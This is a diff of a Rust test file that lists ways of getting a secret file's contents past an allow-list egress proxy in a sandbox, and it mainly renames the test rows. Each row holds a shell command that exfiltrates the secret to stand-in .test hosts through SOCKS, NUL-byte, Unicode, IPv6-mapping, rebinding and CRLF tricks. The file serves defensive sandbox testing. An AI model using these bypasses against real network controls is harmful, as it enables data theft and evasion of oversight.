@@ -1,11 +1,10 @@
 //! Internet names and addresses with a proxy that permits some of them: every spelling of those it does not permit.
 //!
-//! - Servers outside record who connects. Only `twin.test`, which is permitted, may be used to reach them.
+//! - Servers outside record connections. The attacks may use only `twin.test`, which is permitted.
 
 use crate::row::{Bare::Untried, Group, Row, Sign::Said};
 
-pub(crate) const GROUP: Group =
-    Group { name: "proxied", victim: false, listeners: true, persistence: false, proxied: true, rows: ROWS };
+pub(crate) const GROUP: Group = Group { listeners: true, proxied: true, ..Group::new("proxied", ROWS) };
 
 const GET: &str = r#"printf "GET http://twin.test/%s HTTP/1.1\r\nHost: twin.test\r\nConnection: close\r\n\r\n" $(cat $R/secret) | $P proxy"#;
 const TUNNEL: &str = "$P hello twin.test $(cat $R/secret) | $P tunnel twin.test:443";
@@ -15,7 +14,7 @@ const WILD: &str = "$P hello a.wild.test $(cat $R/secret) | $P tunnel a.wild.tes
 const SOCKS: &str = r#"printf "\5\1\0\5\1\0\3\011twin.test\0\120%s" $(cat $R/secret) | $P proxy"#;
 const CURL: &str = "curl -s --max-time 5 -x http://127.0.0.1:3128 http://twin.test/$(cat $R/secret)";
 
-/// Returns a row that is not tried without a sandbox, which has no such proxy.
+/// Returns a row that is not tried without a sandbox, because there is no such proxy.
 const fn way(name: &'static str, attack: &'static str, twin: &'static str) -> Row {
     Row::new(name, attack, twin, Said).bare(Untried)
 }
@@ -30,12 +29,12 @@ const ROWS: &[Row] = &[
     way("the host's loopback directly", "$P tcp 127.0.0.1:$PORT $M; $P tcp [::1]:$PORT6 $M", GET),
     way("a name that is not allowed", "$P hello denied.test $M | $P tunnel denied.test:443", TUNNEL),
     way(
-        "such a name without TLS",
+        "a denied name without TLS",
         r#"printf "GET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         GET,
     ),
     way(
-        "such a name by SOCKS",
+        "a denied name through SOCKS",
         r#"printf "\5\1\0\5\1\0\3\013denied.test\0\120GET /%s HTTP/1.1\r\n\r\n" $M | $P proxy"#,
         SOCKS,
     ),
@@ -45,12 +44,12 @@ const ROWS: &[Row] = &[
         TUNNEL,
     ),
     way(
-        "a name that ends like an allowed one",
+        "a name with an allowed suffix",
         "$P hello notallowed.test $M | $P tunnel notallowed.test:443",
         TUNNEL,
     ),
     way(
-        "a name that begins like an allowed one",
+        "a name with an allowed prefix",
         "$P hello allowed.test.denied.test $M | $P tunnel allowed.test.denied.test:443",
         TUNNEL,
     ),
@@ -62,7 +61,7 @@ const ROWS: &[Row] = &[
     ),
     way("a dot at the end", "$P hello denied.test $M | $P tunnel denied.test.:443", TUNNEL),
     way(
-        "a name before the name",
+        "a name as user information",
         r#"printf "GET http://allowed.test@denied.test/%s HTTP/1.1\r\nHost: allowed.test\r\n\r\n" $M | $P proxy; echo $M | $P tunnel allowed.test@denied.test:80"#,
         GET,
     ),
@@ -72,22 +71,22 @@ const ROWS: &[Row] = &[
         GET,
     ),
     way(
-        "a name that is escaped",
+        "an escaped name",
         r#"echo $M | $P tunnel denied%2Etest:80; printf "GET http://denied%2etest/%s HTTP/1.1\r\nHost: denied%2etest\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         GET,
     ),
     way(
-        "a name in wide letters",
+        "a name in fullwidth letters",
         "echo $M | $P tunnel ｄｅｎｉｅｄ.test:80; echo $M | $P tunnel denied。test:80",
         GET,
     ),
     way(
-        "a name with a byte that ends it",
+        "a name with a NUL byte",
         r#"printf "CONNECT denied.test\0.allowed.test:80 HTTP/1.1\r\n\r\n%s" $M | $P proxy; printf "\5\1\0\5\1\0\3\030denied.test\0allowed.test\0\120%s" $M | $P proxy"#,
         SOCKS,
     ),
     way(
-        "a name with a blank",
+        "a name with a space",
         r#"echo $M | $P tunnel "allowed.test:80 denied.test:80"; printf "CONNECT  denied.test:80 HTTP/1.1\r\n\r\n%s" $M | $P proxy"#,
         PLAIN,
     ),
@@ -107,17 +106,17 @@ const ROWS: &[Row] = &[
         PLAIN,
     ),
     way(
-        "an address of version 6",
+        "an IPv6 address",
         r#"echo $M | $P tunnel [2620:fe::66]:80; printf "GET http://[2620:fe::66]/%s HTTP/1.1\r\nHost: [2620:fe::66]\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         PLAIN,
     ),
     way(
-        "version 4 in version 6",
+        "an IPv4-mapped IPv6 address",
         r#"echo $M | $P tunnel [::ffff:9.9.9.66]:80; printf "GET http://[::ffff:9.9.9.66]/%s HTTP/1.1\r\nHost: [::ffff:9.9.9.66]\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         PLAIN,
     ),
     way(
-        "version 4 in version 6 in other words",
+        "an IPv4-mapped IPv6 address in another spelling",
         r#"echo $M | $P tunnel [::ffff:909:942]:80; printf "GET http://[::ffff:909:942]/%s HTTP/1.1\r\nHost: [::ffff:909:942]\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         PLAIN,
     ),
@@ -163,17 +162,17 @@ const ROWS: &[Row] = &[
     ),
     way("an address by SOCKS", r#"printf "\5\1\0\5\1\0\1\011\011\011\102\0\120%s" $M | $P proxy"#, SOCKS),
     way(
-        "an address of version 6 by SOCKS",
+        "an IPv6 address through SOCKS",
         r#"printf "\5\1\0\5\1\0\4\046\040\0\376\0\0\0\0\0\0\0\0\0\0\0\146\0\120%s" $M | $P proxy"#,
         SOCKS,
     ),
     way(
-        "an address as a name by SOCKS",
+        "an address as a name through SOCKS",
         r#"printf "\5\1\0\5\1\0\3\0109.9.9.66\0\120%s" $M | $P proxy"#,
         SOCKS,
     ),
     way(
-        "an older SOCKS",
+        "an older SOCKS version",
         r#"printf "\4\1\0\120\011\011\011\102\0%s" $M | $P proxy; printf "\4\1\0\120\0\0\0\1\0denied.test\0%s" $M | $P proxy"#,
         SOCKS,
     ),
@@ -190,47 +189,47 @@ const ROWS: &[Row] = &[
         GET,
     ),
     way(
-        "the proxy by itself",
+        "the proxy through itself",
         "echo $M | $P tunnel 127.0.0.1:3128; echo $M | $P tunnel localhost:3128",
         PLAIN,
     ),
     way(
-        "an allowed name that leads to a private address",
+        "an allowed name with a private address",
         r#"echo $M | $P tunnel private.test:80; printf "GET http://private.test/%s HTTP/1.1\r\nHost: private.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello private.test $M | $P tunnel private.test:443"#,
         PLAIN,
     ),
     way(
-        "an allowed name that leads to a link",
+        "an allowed name with a link-local address",
         r#"echo $M | $P tunnel link.test:80; printf "GET http://link.test/%s HTTP/1.1\r\nHost: link.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello link.test $M | $P tunnel link.test:443"#,
         PLAIN,
     ),
     way(
-        "an allowed name that leads to the proxy's own address",
+        "an allowed name with the proxy's own address",
         r#"echo $M | $P tunnel own.test:80; printf "GET http://own.test/%s HTTP/1.1\r\nHost: own.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello own.test $M | $P tunnel own.test:443"#,
         PLAIN,
     ),
     way(
-        "an allowed name that leads to a mapped address",
+        "an allowed name with a mapped address",
         r#"echo $M | $P tunnel mapped.test:80; printf "GET http://mapped.test/%s HTTP/1.1\r\nHost: mapped.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello mapped.test $M | $P tunnel mapped.test:443"#,
         PLAIN,
     ),
     way(
-        "an allowed name that leads to a translated address",
+        "an allowed name with a translated address",
         r#"echo $M | $P tunnel translated.test:80; printf "GET http://translated.test/%s HTTP/1.1\r\nHost: translated.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello translated.test $M | $P tunnel translated.test:443"#,
         PLAIN,
     ),
     way(
-        "an allowed name of which one address is private",
+        "an allowed name with one private address",
         r#"echo $M | $P tunnel mixed.test:80; printf "GET http://mixed.test/%s HTTP/1.1\r\nHost: mixed.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello mixed.test $M | $P tunnel mixed.test:443"#,
         PLAIN,
     ),
     way(
-        "an allowed name that leads to nought",
+        "an allowed name with the address zero",
         r#"echo $M | $P tunnel nought.test:80; printf "GET http://nought.test/%s HTTP/1.1\r\nHost: nought.test\r\nConnection: close\r\n\r\n" $M | $P proxy; $P hello nought.test $M | $P tunnel nought.test:443"#,
         PLAIN,
     ),
     way(
-        "a name that leads elsewhere the next time",
+        "a name that changes its address",
         "i=0; while [ $i -lt 4 ]; do echo $M | $P tunnel rebinding.test:80; echo $M | $P tunnel rebinding.test:$PORT; i=$((i+1)); done",
         PLAIN,
     ),
@@ -240,7 +239,7 @@ const ROWS: &[Row] = &[
         PORT,
     ),
     way(
-        "a usual port where another was allowed",
+        "a default port if another is allowed",
         "echo $M | $P tunnel spelled.test:80; $P hello spelled.test $M | $P tunnel spelled.test:443",
         PORT,
     ),
@@ -252,12 +251,12 @@ const ROWS: &[Row] = &[
     way("another name in the greeting", "$P hello denied.test $M | $P tunnel allowed.test:443", TUNNEL),
     way("no name in the greeting", "$P hello - $M | $P tunnel allowed.test:443", TUNNEL),
     way(
-        "a name in the greeting that ends otherwise",
+        "a different name in the TLS hello",
         "$P hello allowed.test.denied.test $M | $P tunnel allowed.test:443; $P hello sub.allowed.test $M | $P tunnel allowed.test:443",
         TUNNEL,
     ),
     way(
-        "no greeting",
+        "no TLS hello",
         r#"echo $M | $P tunnel allowed.test:443; printf "GET /%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P tunnel allowed.test:443; printf "SSH-2.0-%s\r\n" $M | $P tunnel allowed.test:443"#,
         TUNNEL,
     ),
@@ -273,7 +272,7 @@ const ROWS: &[Row] = &[
         GET,
     ),
     way(
-        "a line within a line",
+        "a line break within a line",
         r#"printf "GET http://twin.test/\r\nGET http://denied.test/%s HTTP/1.1\r\nHost: denied.test\r\n\r\n" $M | $P proxy; printf "GET http://twin.test/%%0d%%0aHost:denied.test/%s HTTP/1.1\r\nHost: twin.test\r\nConnection: close\r\n\r\n" $M | $P proxy"#,
         GET,
     ),
@@ -289,17 +288,17 @@ const ROWS: &[Row] = &[
     ),
     way("a redirect", "curl -sL --max-time 5 -x http://127.0.0.1:3128 http://twin.test/redirect/$M", CURL),
     way(
-        "a client of its own choice",
+        "a client with its own proxy settings",
         r#"curl -s --max-time 5 -x http://127.0.0.1:3128 http://denied.test/$M; curl -s --max-time 5 -x socks5h://127.0.0.1:3128 http://denied.test/$M; curl -s --max-time 5 -x socks5://127.0.0.1:3128 http://9.9.9.66/$M; curl -sk --max-time 5 -x http://127.0.0.1:3128 https://denied.test/$M; curl -s --noproxy "*" --max-time 5 http://9.9.9.66/$M"#,
         CURL,
     ),
     way(
-        "a name with an address of its own",
+        "a name with a forced address",
         "curl -s --max-time 5 --resolve denied.test:80:9.9.9.66 -x http://127.0.0.1:3128 http://denied.test/$M; curl -sk --max-time 5 -x http://127.0.0.1:3128 --connect-to allowed.test:443:denied.test:443 https://allowed.test/$M",
         CURL,
     ),
     way(
-        "many at once",
+        "many connections at once",
         "i=0; while [ $i -lt 20 ]; do echo $M | $P tunnel denied.test:80 & i=$((i+1)); done; wait",
         PLAIN,
     ),
